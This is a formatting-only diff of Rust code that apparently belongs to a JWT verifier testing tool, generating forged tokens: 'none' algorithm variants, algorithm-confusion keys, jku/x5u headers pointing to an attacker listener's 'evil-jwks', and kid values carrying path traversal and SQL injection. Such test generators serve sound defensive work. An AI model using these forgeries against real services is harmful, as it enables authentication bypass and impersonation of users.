@@ -14,7 +14,10 @@ pub fn unsigned(token: &Token) -> Vec<(String, String)> {
     let mut forgeries = Vec::new();
     for name in ["none", "None", "nOnE", "NONE", ""] {
         let input = token.clone().header("alg", name).signing_input();
-        forgeries.push((format!("alg {name:?}, empty signature"), format!("{input}.")));
+        forgeries.push((
+            format!("alg {name:?}, empty signature"),
+            format!("{input}."),
+        ));
         forgeries.push((format!("alg {name:?}, one byte"), format!("{input}.AA")));
     }
     let input = token.clone().without_header("alg").signing_input();
@@ -47,7 +50,10 @@ pub fn symmetric(token: &Token, key: &SigningKey, secret: &str) -> Vec<(String, 
         .unwrap_or_default();
     let keys: [(&str, &[u8]); 6] = [
         ("the PEM", pem.as_bytes()),
-        ("the PEM without its last line feed", pem.trim_end().as_bytes()),
+        (
+            "the PEM without its last line feed",
+            pem.trim_end().as_bytes(),
+        ),
         ("the DER", &der),
         ("the JWK", jwk.as_bytes()),
         ("the modulus", &modulus),
@@ -110,17 +116,33 @@ pub fn degenerate(token: &Token) -> Vec<(String, String)> {
 }
 
 /// Headers that tell the verifier where to find the attacker's key.
-pub fn header_as_instruction(token: &Token, own: &SigningKey, listener: &str) -> Vec<(String, String)> {
+pub fn header_as_instruction(
+    token: &Token,
+    own: &SigningKey,
+    listener: &str,
+) -> Vec<(String, String)> {
     let mut key = own.jwk();
     let forged = token.clone().by(own);
     let with = |name: &str, value: Value| forged.clone().header(name, value).sign();
     let mut forgeries = vec![
         ("jwk".to_owned(), with("jwk", key.clone())),
-        ("jku".to_owned(), with("jku", json!(format!("{listener}/evil-jwks")))),
-        ("x5u".to_owned(), with("x5u", json!(format!("{listener}/evil-cert")))),
-        ("x5c".to_owned(), with("x5c", json!([STANDARD.encode(own.spki())]))),
+        (
+            "jku".to_owned(),
+            with("jku", json!(format!("{listener}/evil-jwks"))),
+        ),
+        (
+            "x5u".to_owned(),
+            with("x5u", json!(format!("{listener}/evil-cert"))),
+        ),
+        (
+            "x5c".to_owned(),
+            with("x5c", json!([STANDARD.encode(own.spki())])),
+        ),
         ("own kid".to_owned(), with("kid", json!(own.kid))),
-        ("kid is a path".to_owned(), with("kid", json!("../../../../dev/null"))),
+        (
+            "kid is a path".to_owned(),
+            with("kid", json!("../../../../dev/null")),
+        ),
         ("kid is SQL".to_owned(), with("kid", json!("' OR 1=1 --"))),
         ("kid is a number".to_owned(), with("kid", json!(1))),
         ("kid is empty".to_owned(), with("kid", json!(""))),
@@ -142,8 +164,17 @@ pub fn odd_headers(token: &Token) -> Vec<(String, String)> {
         ("zip".to_owned(), with("zip", json!("DEF"))),
         ("enc".to_owned(), with("enc", json!("A256GCM"))),
         ("an access token".to_owned(), with("typ", json!("at+jwt"))),
-        ("a full access token".to_owned(), with("typ", json!("application/at+jwt"))),
-        ("a logout token".to_owned(), with("typ", json!("logout+jwt"))),
-        ("a security event".to_owned(), with("typ", json!("secevent+jwt"))),
+        (
+            "a full access token".to_owned(),
+            with("typ", json!("application/at+jwt")),
+        ),
+        (
+            "a logout token".to_owned(),
+            with("typ", json!("logout+jwt")),
+        ),
+        (
+            "a security event".to_owned(),
+            with("typ", json!("secevent+jwt")),
+        ),
     ]
 }
